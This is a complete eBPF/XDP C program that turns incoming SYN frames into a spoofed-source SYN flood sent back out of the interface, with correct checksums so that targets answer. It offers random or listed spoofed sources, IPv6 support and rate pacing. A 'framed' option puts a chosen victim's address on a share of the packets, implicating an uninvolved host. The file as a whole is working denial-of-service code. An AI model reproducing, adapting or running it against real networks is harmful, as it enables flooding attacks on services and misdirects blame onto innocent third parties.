// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Rewrites the source of a SYN and sends it out where it came in (XDP_TX): run over live frames it
 * is a flood from one machine. Checksums are right, so that the stack behind would answer.
 */
#include "vmlinux.h"
#include <bpf/bpf_helpers.h>
#include <bpf/bpf_endian.h>

/* Set by user space before loading. */
const volatile __u32 is6 = 0;
const volatile __u32 base4 = 0;	 /* first source, host order */
const volatile __u32 span = 0;	 /* that many sources from it on; 0: any of 2^32 */
const volatile __u32 framed = 0; /* one of so many carries `victim` as its source; 0: none */
const volatile __u32 victim = 0; /* host order; IPv6: the low word below the base prefix */
const volatile __u32 listed = 0; /* so many of `addresses` in turn are the sources; 0: none is */
const volatile __u64 gap_ns = 0; /* between two packets; 0: as fast as it goes */
/* The whole frame anew each time, but for what is random: for a receiver that writes into it, since
 * frames come back with what was written. */
const volatile __u32 whole = 0;
const volatile __u16 template[37] = {};
const volatile __u16 ip_sum = 0; /* sums of the template with source and port 0 */
const volatile __u16 tcp_sum = 0;

__u64 sent = 0;
__u64 framing = 0;
__u64 due_ns = 0;

struct address {
	__be32 word[4];
};

struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, 1); /* user space sets it before loading */
	__type(key, __u32);
	__type(value, struct address);
} addresses SEC(".maps");

static __always_inline __u16 fold(__u32 sum)
{
	sum = (sum & 0xffff) + (sum >> 16);
	sum = (sum & 0xffff) + (sum >> 16);
	return (__u16)~sum;
}

static __always_inline __u32 pick(void)
{
	__u32 random = bpf_get_prandom_u32();

	if (framed && bpf_get_prandom_u32() % framed == 0) {
		__sync_fetch_and_add(&framing, 1);
		return victim;
	}
	return span ? base4 + random % span : random;
}

static int is_due(__u32 index, void *context)
{
	(void)index, (void)context;
	return bpf_ktime_get_ns() >= due_ns;
}

/* A flood as if it came over a wire: evenly, and what is late is not made up for. */
static __always_inline void wait_until_due(void)
{
	__u64 now = bpf_ktime_get_ns();

	if (now < due_ns)
		bpf_loop(1 << 20, is_due, NULL, 0);
	if (now > due_ns + 1000000)
		due_ns = now;
	due_ns += gap_ns;
}

/* The next of the given addresses into the packet; returns the sum of its words. */
static __always_inline __u32 put_listed(__be32 *to, __u32 first, __u32 index)
{
	const struct address *address = bpf_map_lookup_elem(&addresses, &index);
	__u32 sum = 0;

	for (__u32 i = first; address && i < 4; i++) {
		__u32 word = bpf_ntohl(address->word[i]);

		to[i - first] = address->word[i];
		sum += (word >> 16) + (word & 0xffff);
	}
	return sum;
}

static __always_inline int send_listed(__u8 *data, __u8 *end, __u32 port, __u32 index)
{
	__u32 sum;

	if (is6) {
		if (data + 14 + 40 + 20 > end)
			return XDP_DROP;
		sum = put_listed((__be32 *)(data + 14 + 8), 0, index);
		*(__be16 *)(data + 54) = bpf_htons((__u16)port);
		*(__be16 *)(data + 54 + 16) = bpf_htons(fold(tcp_sum + sum + port));
		return XDP_TX;
	}
	if (data + 14 + 20 + 20 > end)
		return XDP_DROP;
	sum = put_listed((__be32 *)(data + 14 + 12), 3, index);
	*(__be16 *)(data + 14 + 10) = bpf_htons(fold(ip_sum + sum));
	*(__be16 *)(data + 34) = bpf_htons((__u16)port);
	*(__be16 *)(data + 34 + 16) = bpf_htons(fold(tcp_sum + sum + port));
	return XDP_TX;
}

static __always_inline bool put_template(__u16 *frame, const void *end)
{
	if (frame + 27 > (const __u16 *)end)
		return false;
	for (int i = 0; i < 27; i++)
		frame[i] = template[i];
	if (!is6)
		return true;
	if (frame + 37 > (const __u16 *)end)
		return false;
	for (int i = 27; i < 37; i++)
		frame[i] = template[i];
	return true;
}

SEC("xdp")
int flood(struct xdp_md *ctx)
{
	__u8 *data = (void *)(long)ctx->data, *end = (void *)(long)ctx->data_end;
	__u32 port = 1024 + bpf_get_prandom_u32() % 60000;
	__u64 number = __sync_fetch_and_add(&sent, 1);
	__u32 source, sum;

	if (whole && !put_template((__u16 *)data, end))
		return XDP_DROP;
	if (gap_ns)
		wait_until_due();
	if (listed)
		return send_listed(data, end, port, number % listed);
	source = pick();
	sum = (source >> 16) + (source & 0xffff);
	if (is6) {
		/* The word behind the /64: each a source of its own would need another /64. */
		if (data + 14 + 40 + 20 > end)
			return XDP_DROP;
		*(__be32 *)(data + 14 + 8 + 4) = bpf_htonl(source);
		*(__be16 *)(data + 54) = bpf_htons((__u16)port);
		*(__be16 *)(data + 54 + 16) = bpf_htons(fold(tcp_sum + sum + port));
		return XDP_TX;
	}
	if (data + 14 + 20 + 20 > end)
		return XDP_DROP;
	*(__be32 *)(data + 14 + 12) = bpf_htonl(source);
	*(__be16 *)(data + 14 + 10) = bpf_htons(fold(ip_sum + sum));
	*(__be16 *)(data + 34) = bpf_htons((__u16)port);
	*(__be16 *)(data + 34 + 16) = bpf_htons(fold(tcp_sum + sum + port));
	return XDP_TX;
}

char LICENSE[] SEC("license") = "GPL";
